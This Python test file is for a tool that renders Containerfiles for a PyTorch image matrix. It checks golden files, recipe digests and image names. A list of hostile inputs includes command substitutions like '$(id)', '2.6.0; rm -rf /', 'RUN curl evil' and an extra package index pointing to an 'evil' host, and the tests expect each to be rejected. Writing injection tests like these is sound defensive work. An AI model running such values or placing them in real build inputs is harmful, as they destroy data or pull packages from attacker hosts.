"""Containerfiles against golden files (write them anew with `UPDATE_GOLDEN=1 pytest tests/unit/images/test_recipe.py`
and read the difference), hostile values, and what changes a recipe's digest.
"""

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from orchestrator.axes import AXES, Grammar, Where, image_axes, image_id, problem_with
from orchestrator.errors import InputError
from orchestrator.images.bases import find_base
from orchestrator.images.lock import Lock
from orchestrator.images.packages import Package
from orchestrator.images.recipe import Recipe, checked, render, write
from orchestrator.images.resolve import Wheel

GOLDEN = Path(__file__).parents[2] / "golden" / "images"
CPU = {"torch": "2.13.0", "torch_build": "cpu", "python": "3.11"}
TRIXIE = {"torch": "2.6.0", "torch_build": "cpu", "torch_from": "distribution", "base": "debian13", "python": "3.13"}
CELLS = (
    CPU,
    {**CPU, "openvino": "2025.4.1"},
    {"torch": "1.13", "torch_build": "cpu", "torch_from": "distribution", "python": "3.11"},
    TRIXIE,
    {**TRIXIE, "openvino": "2025.4.1"},
    {"torch": "2.13.0", "torch_build": "cu130", "python": "3.11"},
    {"torch": "2.13.0", "torch_build": "cu126", "python": "3.11", "cuda_compat": "560.35.05"},
    {"torch": "2.13.0", "torch_build": "cu130", "python": "3.12", "base": "ubuntu24.04", "torch_tensorrt": "2.13.0"},
    {"torch": "2.13.0", "torch_build": "rocm7.1", "python": "3.13", "base": "debian13", "torchvision": "0.28.0"},
    {
        "torch": "2.13.0",
        "torch_build": "xpu",
        "python": "3.12",
        "level_zero": "1.24.2",
        "compute_runtime": "25.31.34666",
    },
)
BASES = {"ubuntu24.04": f"registry.example/ubuntu@sha256:{'ab' * 32}"}


@pytest.mark.parametrize("axes", CELLS, ids=image_id)
def test_the_containerfile_is_the_golden_one(axes):
    golden = GOLDEN / f"{image_id(axes)}.Containerfile"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.write_text(render(axes, BASES))

    assert render(axes, BASES) == golden.read_text()


def test_every_golden_file_belongs_to_a_cell_and_all_platforms_are_there():
    assert {file.name for file in GOLDEN.iterdir()} == {f"{image_id(axes)}.Containerfile" for axes in CELLS}
    assert {axes["torch_build"][:4] for axes in CELLS} == {"cpu", "cu13", "cu12", "rocm", "xpu"}


@pytest.mark.parametrize("axes", CELLS, ids=image_id)
def test_old_buildkits_and_closed_networks_can_build_it(axes):
    lines = render(axes, BASES).splitlines()

    assert not any(line.startswith("# syntax=") or "<<" in line or "--network" in line for line in lines)
    assert next(line for line in lines if line.startswith("FROM ")).strip() != "FROM"
    assert "\n\n\n" not in render(axes, BASES)


HOSTILE = (
    "2.6.0\nRUN curl evil",
    "2.6.0\n",
    "{{ 7*7 }}",
    "{% raw %}",
    "${X}",
    "$(id)",
    "`id`",
    "2.6.0; rm -rf /",
    "2.6.0 --extra-index-url http://evil",
    "../../x",
    "/abs",
    "..",
    "",
    "9" * 300,
    "-r",
    "2.6.0\u202e",
)
PASSED = sorted(name for name, axis in AXES.items() if axis.where is Where.IMAGE and name != "image")


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
@pytest.mark.parametrize("axis", PASSED)
def test_a_hostile_value_reaches_no_containerfile(axis, value):
    """Rows 17 to 20: whatever came through the matrix, each value passes its axis's grammar once more."""
    with pytest.raises(InputError):
        render({**CPU, axis: value})


def test_a_companion_cannot_be_named_into_the_install_line():
    with pytest.raises(InputError, match="no axis is named"):
        render({**CPU, "numpy --extra-index-url http://evil": "2.4.6"})


@given(st.dictionaries(st.sampled_from(PASSED), st.text(max_size=40) | st.sampled_from(HOSTILE), max_size=4))
def test_what_is_written_has_the_lines_of_the_golden_one_or_nothing_is_written(changes):
    axes = {**CPU, **changes}
    if any(problem_with(AXES[name], value) for name, value in axes.items()):
        with pytest.raises(InputError):
            render(axes)
    else:
        assert [line.split()[0] for line in render(axes).splitlines() if line[:3] == "RUN"]


@pytest.mark.parametrize("missing", ["torch", "torch_build", "python"])
def test_an_image_needs_its_three_axes(missing):
    with pytest.raises(InputError, match=f"an image needs a value of `{missing}`"):
        render({name: value for name, value in CPU.items() if name != missing})


def test_a_ready_image_has_no_containerfile():
    with pytest.raises(InputError, match="a ready image has no Containerfile"):
        render({**CPU, "image": f"repo@sha256:{'0' * 64}"})


def test_host_and_run_axes_do_not_matter():
    assert render({**CPU, "backend": "inductor", "env": "A=1"}) == render(CPU)


def test_a_base_that_nobody_names_is_written_to_be_replaced():
    assert "FROM site-base/ubuntu24.04-py3.12\n" in render({**CPU, "base": "ubuntu24.04", "python": "3.12"})


def recipe(**changes) -> Recipe:
    full = checked(CPU)
    wheel = Wheel(name="torch", version="2.13.0+cpu", file="torch.whl", sha256="a" * 64, url="https://a.example/t")
    base = find_base(full, {})
    made = Recipe(
        id=image_id(full),
        platform="cpu",
        axes=full,
        base=base,
        containerfile=write(full, base),
        templates="t",
        lock=Lock(torch=(wheel,), companions=(), tools=()),
        packages=(Package(axis="level_zero", file="a.deb", sha256="b" * 64, path="/a"),),
    )
    return replace(made, **changes)


def test_the_name_is_readable_and_carries_the_digest():
    made = recipe()

    assert made.name == f"torchmatrix/torch2.13.0-cpu-py3.11:{made.digest[:12]}"
    assert made.wheels == made.lock.torch


@pytest.mark.parametrize(
    "change",
    [
        {"containerfile": recipe().containerfile + "#"},
        {"templates": "u"},
        {"base": replace(recipe().base, packages=("python3",))},
        {"lock": replace(recipe().lock, torch=(replace(recipe().lock.torch[0], sha256="c" * 64),))},
        {"lock": Lock(torch=(), companions=recipe().lock.torch, tools=())},
        {"packages": ()},
        {"packages": (replace(recipe().packages[0], sha256="c" * 64),)},
    ],
    ids=["text", "templates", "base", "wheel", "layer", "no package", "package"],
)
def test_any_changed_byte_is_another_image(change):
    """Row 24 among them: a template edited with no value changed."""
    assert recipe(**change).digest != recipe().digest
    assert recipe(**change).name != recipe().name


def test_where_a_wheel_came_from_is_no_part_of_the_image():
    moved = replace(recipe().lock.torch[0], url="https://mirror.example/t")

    assert recipe(lock=replace(recipe().lock, torch=(moved,))).digest == recipe().digest


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({**CPU, "torch": "2.13.0+cpu"}, {**CPU, "torch": "2.13.0"}),
        ({**CPU, "base": "My-base"}, {**CPU, "base": "my-base"}),
        ({**CPU, "base": "my_base"}, {**CPU, "base": "my-base"}),
    ],
)
def test_values_that_slug_alike_are_two_images(one, other):
    """Row 21: the readable part may be one, the ids and the names are not."""
    names = {recipe(id=image_id(axes), axes=axes, containerfile=render(axes)).name for axes in (one, other)}

    assert image_id(one) != image_id(other)
    assert len(names) == 2


WORDS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,63}", fullmatch=True).filter(
    lambda word: not problem_with(AXES["base"], word)
)


@given(WORDS)
def test_every_name_is_one_that_an_engine_takes(word):
    axes = image_axes({**CPU, "base": word})
    repository, _, tag = recipe(id=image_id(axes)).name.partition(":")
    path = repository.removeprefix("torchmatrix/")

    assert len(tag) == 12
    assert len(path) < 120
    assert all(part and part.isalnum() and part == part.lower() and part.isascii() for part in _parts(path))


def _parts(path: str) -> list[str]:
    import re

    return re.split(r"\.|_|__|-+", path)


def test_every_image_axis_has_a_grammar_that_holds_a_line():
    assert {AXES[name].grammar for name in PASSED} <= set(Grammar) - {Grammar.FREE, Grammar.ENV}
